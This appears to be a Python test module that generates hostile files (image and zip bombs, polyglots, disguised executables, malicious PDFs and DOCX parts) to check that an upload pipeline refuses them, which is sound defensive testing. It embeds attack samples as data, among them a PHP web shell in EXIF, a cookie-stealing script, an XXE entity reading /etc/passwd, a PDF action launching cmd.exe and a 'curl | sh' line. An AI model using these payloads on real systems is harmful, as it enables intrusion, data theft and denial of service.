"""A corpus of hostile and broken image files, generated (seeded) at run time: what a photo
ingestion must refuse with a reason, or accept as a real photo, without ever crashing.

Families: decompression bombs around the pixel limit; every format Pillow can open that
the register refuses (listed from Pillow itself at run time), plain and disguised behind a
JPEG signature; polyglots; truncated and bit-flipped copies of real photographs; empty and
tiny files; absurd dimensions in headers; animations and multi-frame files; the colour
modes that must decode (CMYK, 16-bit, palette, alpha); malformed metadata.
"""

import io
import random
import re
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from PIL import Image

from imaging.decode import MAX_PIXELS
from tests.imaging.photo_corpus import real_photos

ALLOWED_PILLOW_FORMATS = {"JPEG", "PNG", "WEBP", "MPO"}  # MPO is a JPEG with an index
# Formats Pillow opens but cannot write: a minimal file by hand, from the format's own
# signature (enough for Pillow to recognise it and start parsing).
_OPEN_ONLY_HEADERS: dict[str, bytes] = {
    "PSD": b"8BPS\x00\x01" + b"\x00" * 6 + struct.pack(">HIIHH", 3, 64, 64, 8, 3),
    "FITS": (b"SIMPLE  =                    T" + b" " * 50).ljust(80)
    + b"BITPIX  =                    8".ljust(80)
    + b"NAXIS   =                    2".ljust(80)
    + b"NAXIS1  =                   64".ljust(80)
    + b"NAXIS2  =                   64".ljust(80)
    + b"END".ljust(80),
    "CUR": b"\x00\x00\x02\x00\x01\x00" + b"\x20\x20\x00\x00\x01\x00\x20\x00" + b"\x00" * 8,
    "DCX": struct.pack("<I", 987654321) + struct.pack("<I", 12) + b"\x00" * 8,
    "FLI": struct.pack("<IHHHH", 0, 0xAF11, 1, 64, 64) + b"\x00" * 118,
    "FTEX": b"FTEX" + struct.pack("<IIII", 0x0B, 64, 64, 1) + b"\x00" * 16,
    "GBR": struct.pack(">IIIII", 28, 2, 8, 8, 1) + b"GIMP" + struct.pack(">I", 10) + b"x",
    "IMT": b"width 64\nheight 64\n\x0c" + b"\x00" * 64,
    "IPTC": b"\x1c\x02\x00\x00\x02\x00\x02",
    "MCIDAS": b"\x00\x00\x00\x00\x00\x00\x00\x04" + b"\x00" * 248,
    "MPEG": b"\x00\x00\x01\xb3" + b"\x04\x00\x30" + b"\x00" * 8,
    "PCD": b"\x00" * 2048 + b"PCD_IPI" + b"\x00" * 100,
    "PIXAR": b"\x80\xe8\x00\x00" + b"\x00" * 508,
    "SUN": struct.pack(">IIIIIIII", 0x59A66A95, 64, 64, 8, 64 * 64, 1, 0, 0),
    "XPM": b'/* XPM */\nstatic char *x[] = {\n"4 4 1 1",\n". c #000000",\n'
    + b'"....",\n' * 4
    + b"};\n",
    "XVTHUMB": b"P7 332\n#XVVERSION:\n#END_OF_COMMENTS\n4 4 255\n" + b"\x00" * 16,
    "AVIF": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + b"\x00" * 16,
    "BUFR": b"BUFR" + b"\x00" * 60,
    "GRIB": b"GRIB" + b"\x00" * 60,
    "HDF5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 60,
    "WMF": b"\xd7\xcd\xc6\x9a" + b"\x00" * 60,
}


@dataclass(frozen=True)
class HostileFile:
    name: str  # family/what: unique in the corpus
    content: bytes
    # "refuse": must be refused; "either": refused, or accepted only as a real photo;
    # "accept": a real photo in an odd shape, which must decode.
    expect: str


def _encode(image: Image.Image, format: str, **options: object) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # formats Pillow will drop
        image.save(out, format=format, **options)
    return out.getvalue()


def _sample(seed: int, size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    rng = random.Random(seed)
    image = Image.new("RGB", size)
    image.putdata([tuple(rng.randrange(256) for _ in range(3)) for _ in range(size[0] * size[1])])
    return image.convert(mode) if mode != "RGB" else image


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of_zeros(width: int, height: int, depth: int = 8, colour_type: int = 0) -> bytes:
    """A PNG whose image data is all zero, compressed as it is generated: a tiny file that
    declares `width` x `height` pixels (a decompression bomb past the limit)."""
    compressor = zlib.compressobj(9)
    row = b"\x00" * (1 + width * depth // 8 * (3 if colour_type == 2 else 1))
    data = bytearray()
    for _ in range(height):
        data += compressor.compress(row)
    data += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", bytes(data))
        + _png_chunk(b"IEND", b"")
    )


def _png_header_only(width: int, height: int) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IEND", b"")


def _jpeg_with_dimensions(width: int, height: int) -> bytes:
    """A valid small JPEG whose frame header (SOF0) is rewritten to claim other sizes."""
    data = bytearray(_encode(_sample(1), "JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _webp_canvas(width: int, height: int) -> bytes:
    """A VP8X WebP header declaring a canvas of `width` x `height` (24-bit fields)."""
    flags = b"\x00\x00\x00\x00"
    canvas = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    chunk = b"VP8X" + struct.pack("<I", 10) + flags + canvas
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def _jpeg_with_segment(marker: int, payload: bytes, base: bytes | None = None) -> bytes:
    data = base or _encode(_sample(2), "JPEG")
    segment = bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload
    return data[:2] + segment + data[2:]


def _looping_exif() -> bytes:
    """EXIF whose first IFD points back at itself, and an orientation of the wrong type."""
    ifd = struct.pack("<H", 2)
    ifd += struct.pack("<HHII", 0x0112, 2, 4, 0xFFFFFFFF)  # orientation as ASCII, bad offset
    ifd += struct.pack("<HHII", 0x8769, 4, 1, 8)  # EXIF sub-IFD pointing at the first IFD
    ifd += struct.pack("<I", 8)  # next IFD: itself
    return b"Exif\x00\x00" + b"II*\x00" + struct.pack("<I", 8) + ifd


def bombs() -> Iterator[HostileFile]:
    side = int(MAX_PIXELS**0.5)
    # Exactly at the limit, so every check on the file passes: 120 MB of RGB from ~120 KB.
    at_limit = png_of_zeros(MAX_PIXELS // 5000, 5000, 8, 2)
    yield HostileFile("bomb/png-at-limit", at_limit, "either")
    yield HostileFile("bomb/png-1x-over", png_of_zeros(side + 1, side + 1), "refuse")
    yield HostileFile("bomb/png-2x", png_of_zeros(2 * MAX_PIXELS // 8000, 8000), "refuse")
    yield HostileFile("bomb/png-2x-rgb", png_of_zeros(2 * MAX_PIXELS // 8000, 8000, 8, 2), "refuse")
    yield HostileFile("bomb/png-16bit-1x", png_of_zeros(side + 1, side + 1, 16), "refuse")
    yield HostileFile("bomb/jpeg-header-65535", _jpeg_with_dimensions(65535, 65535), "refuse")
    yield HostileFile("bomb/jpeg-header-1x", _jpeg_with_dimensions(side + 1, side + 1), "refuse")
    yield HostileFile("bomb/png-header-2^31", _png_header_only(2**31 - 1, 2**31 - 1), "refuse")
    yield HostileFile("bomb/png-header-1x0", _png_header_only(100_000_000, 1), "refuse")
    yield HostileFile("bomb/png-header-zero", _png_header_only(0, 0), "refuse")
    yield HostileFile("bomb/webp-canvas-max", _webp_canvas(16_777_216, 16_777_216), "refuse")
    yield HostileFile("bomb/webp-canvas-2x", _webp_canvas(2 * MAX_PIXELS // 8000, 8000), "refuse")
    # A text chunk that inflates far past Pillow's cap on text chunks.
    zbomb = _png_chunk(b"zTXt", b"comment\x00\x00" + zlib.compress(b"\x00" * 64_000_000, 9))
    plain = _encode(_sample(3), "PNG")
    yield HostileFile("bomb/png-ztxt-64MB", plain[:33] + zbomb + plain[33:], "either")
    scans = _jpeg_with_segment(0xFE, b"\xff\xda" * 150)
    yield HostileFile("bomb/jpeg-150-scans", scans, "refuse")


def refused_formats() -> Iterator[HostileFile]:
    """Every format Pillow can open, bar the accepted ones: as written by Pillow, or by hand
    from its signature; each also behind a JPEG signature and as a PNG signature's tail."""
    Image.init()
    image = _sample(4, (32, 32))
    for format in sorted(set(Image.OPEN) - ALLOWED_PILLOW_FORMATS):
        content = None
        if format in Image.SAVE:
            for mode in ("RGB", "L", "1", "RGBA", "P"):
                try:
                    content = _encode(image.convert(mode), format)
                    break
                except Exception:  # this mode or this format's writer is unavailable
                    continue
        if content is None:
            content = _OPEN_ONLY_HEADERS.get(format)
        if content is None:
            raise AssertionError(f"Pillow opens {format}: add its signature to the corpus")
        name = format.lower()
        yield HostileFile(f"format/{name}", content, "refuse")
        yield HostileFile(
            f"format/{name}-behind-jpeg-signature", b"\xff\xd8\xff" + content, "refuse"
        )
        yield HostileFile(
            f"format/{name}-behind-png-signature", b"\x89PNG\r\n\x1a\n" + content, "refuse"
        )
    for format in sorted(set(Image.SAVE) - set(Image.OPEN) - ALLOWED_PILLOW_FORMATS):
        try:
            yield HostileFile(
                f"format/{format.lower()}-write-only", _encode(image, format), "refuse"
            )
        except Exception:  # no writer for this image here (e.g. a missing codec)
            continue


def polyglots() -> Iterator[HostileFile]:
    jpeg = _encode(_sample(5, (96, 96)), "JPEG")
    png = _encode(_sample(6, (96, 96)), "PNG")
    webp = _encode(_sample(7, (96, 96)), "WEBP")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as bundle:
        bundle.writestr("evil.class", b"\xca\xfe\xba\xbe" + b"\x00" * 64)
        bundle.writestr("index.html", b"hello")
    zipped = archive.getvalue()
    commented = io.BytesIO()
    with zipfile.ZipFile(commented, "w") as bundle:
        bundle.writestr("a.txt", b"x")
        bundle.comment = b"PK\x05\x06 a comment that looks like an end record" * 20
    html = b"<html><body><script>alert(document.cookie)</script></body></html>"
    gif = _encode(_sample(8, (8, 8)), "GIF")
    yield HostileFile("polyglot/jpeg+zip", jpeg + zipped, "refuse")
    yield HostileFile("polyglot/png+zip", png + zipped, "refuse")
    yield HostileFile("polyglot/jpeg+zip-commented", jpeg + commented.getvalue(), "refuse")
    yield HostileFile("polyglot/webp+zip", webp + zipped, "refuse")
    yield HostileFile("polyglot/jpeg+rar", jpeg + b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64, "refuse")
    yield HostileFile(
        "polyglot/png+7z", png + b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 64, "refuse"
    )
    yield HostileFile("polyglot/jpeg+html", jpeg + html, "refuse")
    yield HostileFile("polyglot/png+trailing-html", png + html, "refuse")
    yield HostileFile("polyglot/webp+html", webp + html, "refuse")
    yield HostileFile("polyglot/jpeg-comment-script", _jpeg_with_segment(0xFE, html), "refuse")
    yield HostileFile(
        "polyglot/jpeg-exif-php",
        _jpeg_with_segment(0xE1, b"Exif\0\0<?php system($_GET[1]); ?>"),
        "refuse",
    )
    yield HostileFile(
        "polyglot/jpeg+pdf", jpeg + b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "refuse"
    )
    yield HostileFile("polyglot/gif+js", gif[:6] + b"=1;alert(1)//" + gif[6:], "refuse")
    yield HostileFile(
        "polyglot/gif+js-disguised-as-jpeg",
        b"\xff\xd8\xff" + b"GIF89a=1;alert(1)//" + gif[6:],
        "refuse",
    )
    text = _png_chunk(b"tEXt", b"Comment\x00<svg onload=alert(1)>")
    yield HostileFile("polyglot/png-text-svg", png[:33] + text + png[33:], "refuse")
    yield HostileFile("polyglot/html-with-png-name", html, "refuse")
    yield HostileFile("polyglot/zip-behind-jpeg-signature", b"\xff\xd8\xff\xe0" + zipped, "refuse")


def _flip_bits(data: bytes, rng: random.Random, bits: int) -> bytes:
    flipped = bytearray(data)
    for _ in range(bits):
        position = rng.randrange(len(flipped))
        flipped[position] ^= 1 << rng.randrange(8)
    return bytes(flipped)


def _valid_photos() -> dict[str, bytes]:
    photos = dict(real_photos())
    for seed in range(4):
        sample = _sample(100 + seed, (80, 60))
        for format in ("JPEG", "PNG", "WEBP"):
            photos[f"generated/{seed}.{format.lower()}"] = _encode(sample, format)
    return photos


def damaged_copies(seed: int = 14) -> Iterator[HostileFile]:
    rng = random.Random(seed)
    for name, data in sorted(_valid_photos().items()):
        for share in (0.02, 0.25, 0.5, 0.9, 0.999):
            cut = max(1, int(len(data) * share))
            yield HostileFile(f"truncated/{name}@{cut}", data[:cut], "either")
        for bits in (1, 1, 2, 4, 8, 16, 64, 256, 1024):
            yield HostileFile(
                f"bitflip/{name}x{bits}-{rng.randrange(10**6)}",
                _flip_bits(data, rng, bits),
                "either",
            )
        header = len(data) if len(data) < 64 else 64
        yield HostileFile(
            f"bitflip/{name}-header", _flip_bits(data[:header], rng, 8) + data[header:], "either"
        )


def tiny_files() -> Iterator[HostileFile]:
    yield HostileFile("tiny/zero-bytes", b"", "refuse")
    yield HostileFile("tiny/one-byte", b"\xff", "refuse")
    yield HostileFile("tiny/jpeg-signature-only", b"\xff\xd8\xff", "refuse")
    yield HostileFile("tiny/jpeg-soi-eoi", b"\xff\xd8\xff\xd9", "refuse")
    yield HostileFile("tiny/png-signature-only", b"\x89PNG\r\n\x1a\n", "refuse")
    yield HostileFile("tiny/webp-riff-only", b"RIFF\x04\x00\x00\x00WEBP", "refuse")
    yield HostileFile("tiny/nul-bytes", b"\x00" * 4096, "refuse")
    yield HostileFile("tiny/text", b"this is not a photo\n", "refuse")
    yield HostileFile("tiny/elf-renamed", b"\x7fELF\x02\x01\x01" + b"\x00" * 57, "refuse")
    yield HostileFile("tiny/pe-renamed", b"MZ\x90\x00" + b"\x00" * 60, "refuse")


def frames_and_modes() -> Iterator[HostileFile]:
    frames = [_sample(200 + i, (40, 40)) for i in range(3)]
    yield HostileFile(
        "frames/apng", _encode(frames[0], "PNG", save_all=True, append_images=frames[1:]), "refuse"
    )
    yield HostileFile(
        "frames/animated-webp",
        _encode(frames[0], "WEBP", save_all=True, append_images=frames[1:]),
        "refuse",
    )
    yield HostileFile(
        "frames/animated-gif",
        _encode(frames[0], "GIF", save_all=True, append_images=frames[1:]),
        "refuse",
    )
    yield HostileFile(
        "frames/multipage-tiff",
        _encode(frames[0], "TIFF", save_all=True, append_images=frames[1:]),
        "refuse",
    )
    yield HostileFile(
        "frames/mpo", _encode(frames[0], "MPO", save_all=True, append_images=frames[1:]), "accept"
    )
    base = _sample(9, (60, 40))
    yield HostileFile("mode/jpeg-cmyk", _encode(base.convert("CMYK"), "JPEG"), "accept")
    yield HostileFile("mode/jpeg-grey", _encode(base.convert("L"), "JPEG"), "accept")
    yield HostileFile("mode/jpeg-progressive", _encode(base, "JPEG", progressive=True), "accept")
    yield HostileFile(
        "mode/png-16bit-grey",
        _encode(base.convert("I").point(lambda v: v * 200).convert("I;16"), "PNG"),
        "accept",
    )
    yield HostileFile("mode/png-1bit", _encode(base.convert("1"), "PNG"), "accept")
    yield HostileFile(
        "mode/png-palette-transparent", _encode(base.convert("P"), "PNG", transparency=0), "accept"
    )
    yield HostileFile("mode/png-grey-alpha", _encode(base.convert("LA"), "PNG"), "accept")
    yield HostileFile("mode/png-rgba", _encode(base.convert("RGBA"), "PNG"), "accept")
    yield HostileFile("mode/webp-rgba", _encode(base.convert("RGBA"), "WEBP"), "accept")
    yield HostileFile("mode/webp-lossless", _encode(base, "WEBP", lossless=True), "accept")
    yield HostileFile("mode/png-1x1", _encode(_sample(10, (1, 1)), "PNG"), "accept")
    yield HostileFile("mode/jpeg-1x10000", _encode(_sample(11, (1, 3000)), "JPEG"), "accept")
    yield HostileFile("meta/jpeg-looping-exif", _jpeg_with_segment(0xE1, _looping_exif()), "either")
    yield HostileFile(
        "meta/jpeg-exif-garbage",
        _jpeg_with_segment(0xE1, b"Exif\x00\x00" + bytes(range(256)) * 4),
        "either",
    )
    yield HostileFile(
        "meta/jpeg-bogus-icc",
        _jpeg_with_segment(0xE2, b"ICC_PROFILE\x00\x01\x01" + b"\xff" * 500),
        "either",
    )
    icc = _png_chunk(b"iCCP", b"p\x00\x00" + zlib.compress(b"\x00" * 10_000_000))
    plain = _encode(base, "PNG")
    yield HostileFile("meta/png-iccp-10MB", plain[:33] + icc + plain[33:], "either")
    bad_crc = bytearray(plain)
    bad_crc[29:33] = b"\x00\x00\x00\x00"  # the IHDR chunk's CRC
    yield HostileFile("meta/png-bad-crc", bytes(bad_crc), "refuse")
    yield HostileFile(
        "meta/jpeg-orientation-8", _encode(base, "JPEG", exif=_orientation_exif(8)), "accept"
    )


def _orientation_exif(value: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = value
    return exif.tobytes()


FAMILIES: tuple[Callable[[], Iterator[HostileFile]], ...] = (
    bombs,
    refused_formats,
    polyglots,
    damaged_copies,
    tiny_files,
    frames_and_modes,
)


def hostile_corpus() -> list[HostileFile]:
    corpus = [item for family in FAMILIES for item in family()]
    names = [item.name for item in corpus]
    assert len(set(names)) == len(names), "corpus names must be unique"
    return corpus


# --- Hostile documents, for the document store (register/document_content.py) ---------------


@dataclass(frozen=True)
class HostileDocument:
    name: str  # family/what: unique in the corpus
    content: bytes
    reason: str | None  # a part of the reason it must be refused with; None: a real document


def zip_of(parts: dict[str, bytes], stored: bool = False) -> bytes:
    out = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def docx_parts(document: bytes | None = None, **extra: bytes) -> dict[str, bytes]:
    from tests.document_samples import CONTENT_TYPES, DOCUMENT, WORD_MAIN

    return {
        "[Content_Types].xml": CONTENT_TYPES.format(main=WORD_MAIN).encode(),
        "word/document.xml": document or DOCUMENT.format(text="Risk: high").encode(),
        **{name.replace("__", "/"): content for name, content in extra.items()},
    }


def _wide_document_xml(mib: int) -> bytes:
    """A word/document.xml of `mib` MiB of empty paragraphs: millions of elements."""
    return (
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body>" + b"<w:p/>" * (mib * 1024 * 1024 // 6) + b"</w:body></w:document>"
    )


def _lying_sizes(parts: dict[str, bytes], part: str, declared: int) -> bytes:
    """A ZIP whose `part` declares `declared` uncompressed bytes (in its local header and in
    the central directory, which is what readers trust) while its data inflates to more."""
    data = bytearray(zip_of(parts))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = archive.getinfo(part)
    data[info.header_offset + 22 : info.header_offset + 26] = struct.pack("<I", declared)
    at = archive.start_dir
    while data[at : at + 4] == b"PK\x01\x02":
        name_length, extra_length, comment_length = struct.unpack("<HHH", data[at + 28 : at + 34])
        if data[at + 46 : at + 46 + name_length] == part.encode():
            data[at + 24 : at + 28] = struct.pack("<I", declared)
        at += 46 + name_length + extra_length + comment_length
    return bytes(data)


def _pdf_stream_bomb(mib: int) -> bytes:
    from tests.document_samples import pdf

    inflater = zlib.compressobj(9)
    zeros = b"\0" * (1024 * 1024)
    data = b"".join(inflater.compress(zeros) for _ in range(mib)) + inflater.flush()
    return pdf(
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(data) + data + b"\nendstream"
    )


def hostile_documents() -> list[HostileDocument]:
    """Zip bombs and nested archives in DOCX, PDFs with active content, executables under a
    document's name, truncated and broken PDFs, polyglots, absurd declared sizes; and real
    documents beside them, which must still be accepted."""
    from tests.document_samples import (
        BILLION_LAUGHS,
        LINUX_ELF,
        MACRO_MAIN,
        OLE_DOC,
        WINDOWS_EXE,
        docx,
        many_parts_docx,
        pdf,
        zip_bomb_docx,
    )

    valid_pdf, valid_docx = pdf(), docx()
    macho = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 200
    java = b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 200
    inner_bomb = zip_bomb_docx(50)
    items = [
        HostileDocument("real/pdf", valid_pdf, None),
        HostileDocument("real/docx", valid_docx, None),
        HostileDocument("real/text", "Visit 3 May: all well. Café\n".encode(), None),
        # Served back as text/plain with nosniff: markup in a note is only text.
        HostileDocument("real/text-with-markup", b"<script>alert(1)</script>\n", None),
        # Zip bombs and nested archives.
        HostileDocument("zip/bomb-declared-210-mib", zip_bomb_docx(), "(a zip bomb)"),
        HostileDocument(
            "zip/bomb-document-xml-49-mib",
            zip_of(docx_parts(_wide_document_xml(49))),
            "over 100 to one (a zip bomb)",
        ),
        HostileDocument(
            "zip/bomb-media-30-mib",
            zip_of(docx_parts(word__media__pad_png=b"\0" * (30 * 1024 * 1024))),
            "over 100 to one (a zip bomb)",
        ),
        HostileDocument(
            "zip/sizes-that-lie",
            _lying_sizes(docx_parts(_wide_document_xml(8)), "word/document.xml", 2000),
            "not a readable DOCX",
        ),
        HostileDocument(
            "zip/declared-1-tib",
            _lying_sizes(docx_parts(), "word/document.xml", 0xFFFF_FFF0),
            "(a zip bomb)",
        ),
        HostileDocument(
            "zip/nested-zip-bomb",
            zip_of(docx_parts(word__media__inner_zip=inner_bomb)),
            "a ZIP archive",
        ),
        HostileDocument(
            "zip/nested-docx-stored",
            zip_of(docx_parts(word__media__image1_png=valid_docx), stored=True),
            "a ZIP archive",
        ),
        HostileDocument(
            "zip/embedded-package",
            zip_of(docx_parts(word__embeddings__Microsoft_Excel_Sheet1_xlsx=valid_docx)),
            "an embedded object",
        ),
        HostileDocument(
            "zip/exe-inside",
            zip_of(docx_parts(word__media__image2_png=WINDOWS_EXE)),
            "a Windows executable",
        ),
        HostileDocument(
            "zip/elf-inside",
            zip_of(docx_parts(customXml__item1_bin=LINUX_ELF)),
            "a Linux executable",
        ),
        HostileDocument(
            "zip/ole-inside", zip_of(docx_parts(word__media__x_emf=OLE_DOC)), "an OLE container"
        ),
        HostileDocument("zip/2500-parts", many_parts_docx(), "over the 2000 limit"),
        HostileDocument("zip/billion-laughs", docx(document=BILLION_LAUGHS), "declares a DTD"),
        HostileDocument(
            "zip/external-entity",
            docx(
                document='<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
            ),
            "declares a DTD",
        ),
        HostileDocument(
            "zip/macros",
            docx(extra={"word/vbaProject.bin": OLE_DOC}),
            "macros (word/vbaProject.bin)",
        ),
        HostileDocument("zip/macro-enabled", docx(main=MACRO_MAIN), "macro-enabled"),
        HostileDocument(
            "zip/activex", docx(extra={"word/activeX/activeX1.xml": b"<a/>"}), "ActiveX"
        ),
        HostileDocument("zip/encrypted-entry", _encrypted_docx(), "cannot be read"),
        HostileDocument("zip/truncated", valid_docx[: len(valid_docx) // 2], "not a readable DOCX"),
        HostileDocument(
            "zip/not-a-word-document", zip_of({"a.txt": b"hello"}), "not a Word document"
        ),
        # PDFs with active content.
        HostileDocument(
            "pdf/javascript", pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "JavaScript"
        ),
        HostileDocument(
            "pdf/openaction-javascript",
            pdf(
                b"<< /Type /Catalog /OpenAction "
                b"<< /S /JavaScript /JS (this.exportDataObject()) >> >>"
            ),
            "JavaScript",
        ),
        HostileDocument(
            "pdf/openaction-launch",
            pdf(b"<< /OpenAction << /S /Launch /Win << /F (cmd.exe) >> >> >>"),
            "launches a program",
        ),
        HostileDocument(
            "pdf/additional-action-js",
            pdf(b"<< /AA << /O << /S /JavaScript /JS (x) >> >> >>"),
            "JavaScript",
        ),
        HostileDocument(
            "pdf/js-hex-escaped", pdf(b"<< /S /#4A#61vaScript /JS (x) >>"), "JavaScript"
        ),
        HostileDocument(
            "pdf/js-in-object-stream",
            pdf(compressed=b"1 0 << /S /JavaScript /JS (hidden) >>"),
            "JavaScript",
        ),
        HostileDocument(
            "pdf/embedded-file",
            pdf(b"<< /Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> >>"),
            "embedded files",
        ),
        HostileDocument(
            "pdf/embedded-file-stream", pdf(b"<< /Type /EmbeddedFile >>"), "an embedded file"
        ),
        HostileDocument(
            "pdf/submit-form", pdf(b"<< /S /SubmitForm /F (http://x) >>"), "submits data"
        ),
        HostileDocument("pdf/import-data", pdf(b"<< /S /ImportData /F (x.fdf) >>"), "imports data"),
        HostileDocument("pdf/richmedia", pdf(b"<< /Subtype /RichMedia >>"), "rich media"),
        HostileDocument("pdf/xfa", pdf(b"<< /AcroForm << /XFA 9 0 R >> >>"), "XFA"),
        # Bombs and broken PDFs.
        HostileDocument("pdf/stream-bomb-250-mib", _pdf_stream_bomb(250), "a decompression bomb"),
        HostileDocument("pdf/truncated-half", valid_pdf[: len(valid_pdf) // 2], "not a whole PDF"),
        HostileDocument("pdf/truncated-tail", valid_pdf[:-20], "not a whole PDF"),
        HostileDocument("pdf/header-only", b"%PDF-1.7\n", "not a whole PDF"),
        HostileDocument(
            "pdf/startxref-past-end",
            valid_pdf.replace(b"startxref\n", b"startxref\n99999999"),
            "past the end",
        ),
        HostileDocument(
            "pdf/startxref-at-nothing",
            re.sub(rb"startxref\n\d+", b"startxref\n12", valid_pdf),
            "a broken PDF",
        ),
        HostileDocument(
            "pdf/unknown-version", b"%PDF-7.1\n" + valid_pdf[9:], "names no PDF version"
        ),
        HostileDocument(
            "pdf/stream-without-end",
            pdf(b"<< /Filter /FlateDecode >>\nstream\n" + zlib.compress(b"x" * 100)),
            "has no endstream",
        ),
        HostileDocument("pdf/ole-document", OLE_DOC, "a legacy Office file"),
        # Executables under a document's name (names do not reach the check at all).
        HostileDocument("exe/pe-as-pdf", WINDOWS_EXE, "a Windows executable (PE)"),
        HostileDocument("exe/elf-as-docx", LINUX_ELF, "a Linux executable (ELF)"),
        HostileDocument("exe/macho-as-pdf", macho, "a macOS executable"),
        HostileDocument("exe/java-class-as-docx", java, "Java class"),
        HostileDocument("exe/script-as-txt", b"#!/bin/sh\ncurl http://x | sh\n", "a script (#!)"),
        # Polyglots.
        HostileDocument("polyglot/text-then-pdf", b"Note: see below\n" + valid_pdf, "a polyglot"),
        HostileDocument(
            "polyglot/zip-then-pdf",
            zip_of({"%PDF-1.7 x": b"x"}, stored=True) + valid_pdf,
            "a polyglot",
        ),
        HostileDocument("polyglot/pdf-then-zip", valid_pdf + valid_docx, "not a whole PDF"),
        HostileDocument("polyglot/pdf-then-exe", valid_pdf + WINDOWS_EXE, "not a whole PDF"),
        HostileDocument(
            "polyglot/html-then-pdf", b"<html><script>alert(1)</script>" + valid_pdf, "a polyglot"
        ),
        HostileDocument(
            "polyglot/jpeg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 64, "not valid UTF-8"
        ),
        HostileDocument("text/nul", b"a note\x00with a NUL", "a NUL"),
        HostileDocument("text/terminal-escape", b"a note \x1b]0;pwned\x07", "control character"),
        HostileDocument("text/latin-1", "caf\xe9".encode("latin-1"), "not valid UTF-8"),
        HostileDocument("empty", b"", "is empty"),
    ]
    names = [item.name for item in items]
    assert len(set(names)) == len(names), "corpus names must be unique"
    return items


def _encrypted_docx() -> bytes:
    """A DOCX whose document part is flagged encrypted (bit 0 of its flags)."""
    data = bytearray(zip_of(docx_parts()))
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = archive.getinfo("word/document.xml")
    data[info.header_offset + 6] |= 1
    directory = data.find(b"PK\x01\x02")
    while directory >= 0:
        if data[directory + 46 : directory + 46 + 17] == b"word/document.xml":
            data[directory + 8] |= 1
        directory = data.find(b"PK\x01\x02", directory + 4)
    return bytes(data)
